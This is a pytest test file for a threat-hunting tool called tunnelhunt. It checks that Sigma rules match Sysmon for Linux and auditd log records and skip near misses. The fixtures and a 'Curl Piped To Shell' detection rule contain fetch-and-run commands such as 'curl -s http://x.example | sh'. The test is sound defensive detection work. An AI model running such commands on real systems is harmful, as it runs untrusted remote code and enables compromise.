"""Sigma `product: linux` rules over Sysmon for Linux events (syslog lines), with their near misses."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from tunnelhunt.cli.app import app

runner = CliRunner()

LINUX_RULE = """
title: Curl Piped To Shell
id: 5f0c1f6e-7c1a-4a53-9a4e-2c1d6a0b7e01
level: high
logsource: {{product: {product}, category: process_creation}}
detection:
  selection:
    Image|endswith: '/curl'
    CommandLine|contains: '| sh'
  condition: selection
"""


def sysmon_line(record: int, event_id: int, data: dict[str, str]) -> str:
    fields = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    return (
        'Nov 20 10:00:00 web1 sysmon: <Event><System><Provider Name="Linux-Sysmon" '
        'Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        f"<EventID>{event_id}</EventID><Version>5</Version><Level>4</Level><Task>{event_id}</Task>"
        f'<TimeCreated SystemTime="2026-11-20T10:00:0{record}.000000000Z"/><EventRecordID>{record}</EventRecordID>'
        "<Channel>Linux-Sysmon/Operational</Channel><Computer>web1</Computer></System>"
        f"<EventData>{fields}</EventData></Event>\n"
    )


def test_linux_process_creation_rules_match_sysmon_for_linux_events(tmp_path: Path) -> None:
    log = tmp_path / "syslog"
    log.write_text(
        sysmon_line(1, 1, {"Image": "/usr/bin/curl", "CommandLine": "curl -s http://x.example | sh", "User": "www"})
        + sysmon_line(2, 1, {"Image": "/usr/bin/curl", "CommandLine": "curl -s http://x.example -o sh"})  # near miss
        + sysmon_line(3, 1, {"Image": "/usr/bin/wget", "CommandLine": "wget -qO- http://x.example | sh"})  # near miss
        # a network connection of the same process: not a process creation, whatever its fields say
        + sysmon_line(4, 3, {"Image": "/usr/bin/curl", "CommandLine": "curl -s http://x.example | sh"})
    )
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "linux.yml").write_text(LINUX_RULE.format(product="linux"))
    windows = LINUX_RULE.format(product="windows").replace("Curl Piped", "Windows Curl Piped")
    (rules / "windows.yml").write_text(windows.replace("5f0c1f6e-7c1a", "6f0c1f6e-7c1a"))
    result = runner.invoke(app, ["hunt", str(log), "--sigma", str(rules), "-o", "jsonl"])
    assert result.exit_code == 0, result.stderr
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    hits = [r for r in rows if r["detection"] == "Curl Piped To Shell"]
    assert [(h["EventRecordID"], h["host"], h["user"]) for h in hits] == [("1", "web1", "www")]
    assert not [r for r in rows if r["detection"] == "Windows Curl Piped To Shell"]  # Linux events are no Windows'


def _audit(serial: int, record: str, fields: str) -> str:
    return f"type={record} msg=audit(1763632800.{serial:03d}:{serial}): {fields}\n"


def test_sigmahq_auditd_rules_match_auditd_records(tmp_path: Path) -> None:
    """`product: linux, service: auditd` rules over the auditd reader's records, each record alone, with near
    misses: SigmaHQ's own rules, fields by auditd's names (hex-encoded arguments decoded, enriched `SYSCALL`)."""
    from tests.conftest import shared_dataset

    syscall = (
        'arch=c000003e syscall=133 success=yes exit=0 ppid=1 pid=9 auid=1000 uid=0 comm="{comm}" exe="{exe}" key={key}'
    )
    log = tmp_path / "audit.log"
    log.write_text(
        _audit(1, "EXECVE", 'argc=3 a0="arecord" a1="-vv" a2="-fdat"')  # audio capture
        + _audit(2, "EXECVE", 'argc=3 a0="arecord" a1="-vv" a2="-fcd"')  # near miss: another format
        + _audit(3, "EXECVE", "argc=3 a0=617265636F7264 a1=2D7676 a2=2D66646174")  # the same, hex-encoded
        + _audit(4, "SYSCALL", syscall.format(comm="split", exe="/usr/bin/split", key="(null)"))  # split
        + _audit(5, "SYSCALL", syscall.format(comm="splitter", exe="/usr/bin/splitter", key="(null)"))  # near miss
        + _audit(6, "SYSCALL", syscall.format(comm="nc", exe="/usr/bin/nc", key='"network_connect_4"'))  # scanning
        + _audit(7, "SYSCALL", syscall.format(comm="nc", exe="/usr/bin/nc", key='"network_connect_6"'))  # near miss
        + _audit(8, "SYSCALL", syscall.format(comm="mknod", exe="/usr/bin/mknod", key="(null)") + "\x1dSYSCALL=mknod")
        + _audit(9, "SYSCALL", syscall.format(comm="mkdir", exe="/usr/bin/mkdir", key="(null)") + "\x1dSYSCALL=mkdir")
        + _audit(10, "PATH", 'item=0 name="arecord" inode=1 nametype=NORMAL')  # a PATH record is no EXECVE
    )
    rules = shared_dataset("sigma/rules/linux/auditd")
    result = runner.invoke(app, ["hunt", str(log), "--sigma", str(rules), "-o", "jsonl"])
    assert result.exit_code == 0, result.stderr
    assert "not run" not in result.stderr  # all 53 rules convert and run
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    hits = sorted((r["detection"], r["_offset"]) for r in rows if r.get("rule_id"))
    assert hits == [
        ("Audio Capture", 1),
        ("Audio Capture", 3),
        ("Linux Network Service Scanning - Auditd", 6),
        ("Special File Creation via Mknod Syscall", 8),
        ("Split A File Into Pieces - Linux", 4),
    ]
